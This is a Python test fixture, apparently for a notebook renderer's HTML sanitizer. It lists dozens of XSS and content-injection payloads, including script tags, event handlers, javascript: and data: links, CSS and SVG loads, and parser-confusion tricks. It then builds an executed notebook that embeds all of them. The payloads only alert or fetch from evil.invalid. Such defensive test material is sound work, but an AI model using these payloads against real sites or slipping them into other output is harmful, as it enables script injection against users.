"""Outputs and Markdown that try to run, load, ask or lead: (kind, HTML). Where one succeeds it
alerts, or asks evil.invalid.
"""

ALERT = "alert(1)"
ELSEWHERE = "https://evil.invalid"

PAYLOADS = [
    ("script", f"<script>{ALERT}</script>"),
    ("script from elsewhere", f'<script src="{ELSEWHERE}/x.js"></script>'),
    ("script in capitals with a slash", f"<SCRIPT/x>{ALERT}</SCRIPT/x>"),
    ("script of a module", f'<script type="module">import "{ELSEWHERE}/m.js"</script>'),
    ("script in CDATA", f"<![CDATA[<script>{ALERT}</script>]]>"),
    ("script behind an odd comment", f"<!--><script>{ALERT}</script>-->"),
    ("script behind a comment with a bang", f"<!--x--!><script>{ALERT}</script>-->"),
    ("script behind a processing instruction", f"<?xml <script>{ALERT}</script> ?>"),
    ("script behind a declaration", f"<!x <script>{ALERT}</script>>"),
    (
        "script in noscript",
        f'<noscript><p title="</noscript><img src=x onerror={ALERT}>"></noscript>',
    ),
    ("script in a title", f'<title><p title="</title><img src=x onerror={ALERT}>"></title>'),
    (
        "script in a textarea",
        f'<textarea><p title="</textarea><img src=x onerror={ALERT}>"></textarea>',
    ),
    ("script in a template", f"<template><script>{ALERT}</script></template>"),
    ("broken tags of a script", f"<scr<script>ipt>{ALERT}</scr</script>ipt>"),
    ("handler of a picture", f"<img src=x onerror={ALERT}>"),
    ("handler with a slash", f"<img/src=x/onerror={ALERT}>"),
    (
        "handler with a quote left open",
        f'<img src="x` `<script>{ALERT}</script>"` `onerror={ALERT}>',
    ),
    ("handler of the body", f"<body onload={ALERT}>"),
    ("handler of a detail", f"<details open ontoggle={ALERT}><summary>x</summary></details>"),
    (
        "handler with focus",
        f"<p tabindex=0 autofocus onfocus={ALERT}>x</p><input autofocus onfocus={ALERT}>",
    ),
    ("handler of an animation", f"<p style='animation: x 1s' onanimationstart={ALERT}>x</p>"),
    ("link of javascript", f'<a href="javascript:{ALERT}">javascript link</a>'),
    ("link of javascript with a tab", f'<a href="java&#9;script:{ALERT}">tab link</a>'),
    ("link of javascript with a line break", f'<a href="java\nscript:{ALERT}">line link</a>'),
    (
        "link of javascript with control characters",
        f'<a href="&#1;javascript:{ALERT}">control link</a>',
    ),
    (
        "link of javascript in entities",
        f'<a href="&#106;&#97;vascript&colon;{ALERT}">entity link</a>',
    ),
    (
        "link of javascript by a page's name",
        f'<a href="javascript:{ALERT}//01_data.ipynb">page link</a>',
    ),
    ("link of data", f'<a href="data:text/html,<script>{ALERT}</script>">data link</a>'),
    ("link of vbscript", f'<a href="vbscript:{ALERT}">vb link</a>'),
    ("link without a scheme", '<a href="//evil.invalid/x">schemeless link</a>'),
    ("link with a backslash", r'<a href="\\evil.invalid\x">backslash link</a>'),
    ("link with a ping", f'<a href="#x" ping="{ELSEWHERE}/ping">ping link</a>'),
    (
        "link that is downloaded",
        f'<a href="{ELSEWHERE}/x" download target="_blank" hidden>download</a>',
    ),
    ("picture from elsewhere", f'<img src="{ELSEWHERE}/x.png">'),
    ("picture without a scheme", '<img src="//evil.invalid/x.png">'),
    ("picture by srcset", f'<img srcset="{ELSEWHERE}/x.png 1x">'),
    ("picture of a source", f'<picture><source srcset="{ELSEWHERE}/x.png"><img src="x"></picture>'),
    (
        "picture, lazily",
        (
            f'<img loading=lazy src="{ELSEWHERE}/x.png" lowsrc="{ELSEWHERE}/y.png"'
            f' dynsrc="{ELSEWHERE}/z.png">'
        ),
    ),
    (
        "picture of SVG in data",
        (
            "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'"
            " onload='alert(1)'/>\">"
        ),
    ),
    (
        "background of a table",
        (
            f'<table background="{ELSEWHERE}/x.png"><tr><td'
            f' background="{ELSEWHERE}/y.png">x</td></tr></table>'
        ),
    ),
    ("background of a style", f"<p style='background: url({ELSEWHERE}/x.png)'>x</p>"),
    ("background, escaped", rf"<p style='background-color: \75\72\6c({ELSEWHERE}/x.png)'>x</p>"),
    ("background, with a comment", f"<p style='background: u/**/rl({ELSEWHERE}/x.png)'>x</p>"),
    (
        "background of an image set",
        f"<p style='background: image-set(\"{ELSEWHERE}/x.png\" 1x)'>x</p>",
    ),
    (
        "cursor and list of a style",
        f"<p style='cursor: url({ELSEWHERE}/c), auto; list-style: url({ELSEWHERE}/l)'>x</p>",
    ),
    (
        "style that covers the page",
        f"<a href='{ELSEWHERE}/cover' style='position: fixed; inset: 0; z-index: 9'>cover</a>",
    ),
    (
        "style that covers by a sheet",
        (
            "<style>#cover {position: fixed; top: 0; width: 100vw; height: 100vh}</style><p"
            " id=cover>x</p>"
        ),
    ),
    ("style sheet that imports", f"<style>@import url({ELSEWHERE}/x.css);</style>"),
    (
        "style sheet that loads",
        (
            f"<style>body {{background: url({ELSEWHERE}/x.png)}} p {{background:"
            f" url({ELSEWHERE}/y.png)}}</style>"
        ),
    ),
    (
        "style sheet with a face",
        (
            f"<style>@font-face {{font-family: x; src: url({ELSEWHERE}/x.woff)}} p {{font-family:"
            " x}</style><p>x</p>"
        ),
    ),
    ("style sheet left by a comment", f"<style><!--</style><img src=x onerror={ALERT}>--></style>"),
    (
        "sheet by a link",
        (
            f'<link rel="stylesheet" href="{ELSEWHERE}/x.css"><link rel="preload" as="image"'
            f' href="{ELSEWHERE}/p.png">'
        ),
    ),
    ("base", f'<base href="{ELSEWHERE}/">'),
    ("refresh", f'<meta http-equiv="refresh" content="0; url={ELSEWHERE}/refresh">'),
    ("refresh to javascript", f'<meta http-equiv="refresh" content="0; url=javascript:{ALERT}">'),
    ("frame", f'<iframe src="{ELSEWHERE}/frame"></iframe>'),
    ("frame of javascript", f'<iframe src="javascript:{ALERT}"></iframe>'),
    ("frame of a document", f"<iframe srcdoc='<script>parent.{ALERT}</script>'></iframe>"),
    ("frames", f'<frameset><frame src="javascript:{ALERT}"></frameset>'),
    (
        "object",
        f'<object data="{ELSEWHERE}/x.swf"><param name="x" value="javascript:{ALERT}"></object>',
    ),
    ("object of HTML", f"<object data='data:text/html,<script>{ALERT}</script>'></object>"),
    ("embed", f'<embed src="{ELSEWHERE}/x.swf"><applet code="{ELSEWHERE}/x"></applet>'),
    (
        "video",
        (
            f'<video src="{ELSEWHERE}/v.mp4" poster="{ELSEWHERE}/p.png" autoplay'
            f" onerror={ALERT}></video>"
        ),
    ),
    (
        "audio",
        (
            f'<audio src="{ELSEWHERE}/a.mp3" autoplay><source src="{ELSEWHERE}/b.mp3"'
            f" onerror={ALERT}></audio>"
        ),
    ),
    (
        "SVG that loads",
        (
            f'<svg><image href="{ELSEWHERE}/x.png" xlink:href="{ELSEWHERE}/y.png"/><use'
            f' href="{ELSEWHERE}/z.svg#a"/></svg>'
        ),
    ),
    (
        "SVG that runs",
        (
            f"<svg onload={ALERT}><script>{ALERT}</script><animate onbegin={ALERT} attributeName=x"
            " dur=1s></svg>"
        ),
    ),
    (
        "SVG with a link",
        f'<svg><a xlink:href="javascript:{ALERT}"><text x=20 y=20>SVG link</text></a></svg>',
    ),
    (
        "SVG with a foreign object",
        (
            "<svg><foreignObject><iframe"
            f" srcdoc='<script>{ALERT}</script>'></iframe></foreignObject></svg>"
        ),
    ),
    ("SVG with a style", f"<svg><style><img src=x onerror={ALERT}></style></svg>"),
    (
        "SVG that sets a link",
        (
            f'<svg><a><animate attributeName=href values="javascript:{ALERT}" /><text x=20 y=20>set'
            " link</text></a></svg>"
        ),
    ),
    (
        "MathML with a link",
        (
            f'<math><maction actiontype="statusline" xlink:href="javascript:{ALERT}">MathML'
            " link</maction></math>"
        ),
    ),
    (
        "MathML that changes the parser",
        (
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x"
            f" onerror={ALERT}&gt;'>"
        ),
    ),
    (
        "MathML with an annotation",
        (
            "<math><annotation-xml"
            f' encoding="text/html"><script>{ALERT}</script></annotation-xml></math>'
        ),
    ),
    (
        "nested forms that change the parser",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={ALERT}>",
    ),
    (
        "form",
        (
            f'<form action="{ELSEWHERE}/form"><input type=image src="{ELSEWHERE}/i.png"><button'
            f' formaction="javascript:{ALERT}">go</button></form>'
        ),
    ),
    (
        "select and keygen",
        (
            f"<select onfocus={ALERT} autofocus><option>x</option></select><keygen autofocus"
            f" onfocus={ALERT}>"
        ),
    ),
    ("marquee", f"<marquee onstart={ALERT}>x</marquee>"),
    (
        "dialog",
        f"<dialog open><form method=dialog><button onclick={ALERT}>x</button></form></dialog>",
    ),
    (
        "names that hide the page's own",
        (
            "<p id=enlarged>x</p><table class=sortable><tr><td>x</td></tr></table><form"
            " class=filter data-table=items></form>"
        ),
    ),
    ("tags that swallow what follows", "<xmp><plaintext><listing><noembed>"),
    ("ends of what was never begun", "</div></div></article></main></body></html>"),
    ("declarations", f'<!DOCTYPE x [<!ENTITY y "<script>{ALERT}</script>">]>&y;'),
    ("a NUL in a tag", f"<scr\0ipt>{ALERT}</scr\0ipt><img src=x on\0error={ALERT}>"),
]

MARKDOWN = [
    ("link of javascript", f"[Markdown link](javascript:{ALERT})"),
    ("link of data", f"[Markdown data](data:text/html,<script>{ALERT}</script>)"),
    ("picture from elsewhere", f"![Markdown picture]({ELSEWHERE}/markdown.png)"),
    ("HTML inside", f"<img src=x onerror={ALERT}>\n\n<script>{ALERT}</script>"),
    ("reference", f"[Markdown reference][r]\n\n[r]: javascript:{ALERT}"),
    ("link in angles", f"<javascript:{ALERT}>"),
]

MARKUP = f"<img src=x onerror={ALERT}><script>{ALERT}</script>"
FORMS = [  # of an output, by its type
    {"application/javascript": ALERT, "text/plain": "script as text"},
    {
        "image/svg+xml": (
            "<svg xmlns='http://www.w3.org/2000/svg'"
            f" onload='{ALERT}'><script>{ALERT}</script></svg>"
        ),
        "text/plain": "drawing as text",
    },
    {"text/latex": f"$x$ {MARKUP}"},
    {"text/plain": MARKUP},
    {"text/markdown": f"[Markdown output](javascript:{ALERT}) {MARKUP}"},
    {"image/png": f'x" onerror="{ALERT}'},
    {"image/jpeg": f"x'>{MARKUP}"},
    {
        "application/vnd.jupyter.widget-view+json": {
            "model_id": MARKUP,
            "version_major": 2,
            "version_minor": 0,
        },
        "text/plain": "widget as text",
    },
    {"text/vnd.mermaid": f"graph TD; A[{MARKUP}]", "text/plain": "diagram as text"},
]


def notebook():
    """An executed notebook that holds all of them; after each payload stands a cell that says
    `still here NUMBER`.
    """
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

    cells = [new_markdown_cell(f"# Hostile {MARKUP}")]
    for number, (_, html) in enumerate(PAYLOADS):
        output = new_output(
            "execute_result", {"text/html": html, "text/plain": "x"}, execution_count=1
        )
        cells.append(new_code_cell(f"x  # {MARKUP}", execution_count=1, outputs=[output]))
        cells.append(new_markdown_cell(f"still here {number}"))
    cells += [new_markdown_cell(text) for _, text in MARKDOWN]
    for data in FORMS:
        metadata = {"image/png": {"width": f"1 onload={ALERT}", "alt": MARKUP, "unconfined": True}}
        cells.append(
            new_code_cell(
                "y",
                execution_count=1,
                outputs=[new_output("display_data", data, metadata=metadata)],
            )
        )
    isolated = new_output(
        "display_data",
        {"text/html": f"<script>{ALERT}</script>"},
        metadata={"text/html": {"isolated": True}},
    )
    streams = [
        new_output("stream", name="stdout", text=MARKUP),
        new_output("stream", name="stderr", text=f"\x1b[31m{MARKUP}\x1b[0m"),
        isolated,
    ]
    error = new_output("error", ename=MARKUP, evalue=MARKUP, traceback=[f"\x1b[31m{MARKUP}"])
    cells.append(
        new_code_cell(
            "z",
            execution_count=1,
            outputs=[*streams, error],
            metadata={"tags": [f'x" onclick="{ALERT}']},
        )
    )
    for place, cell in enumerate(cells):
        cell["id"] = f"cell-{place}"
    return new_notebook(cells=cells)
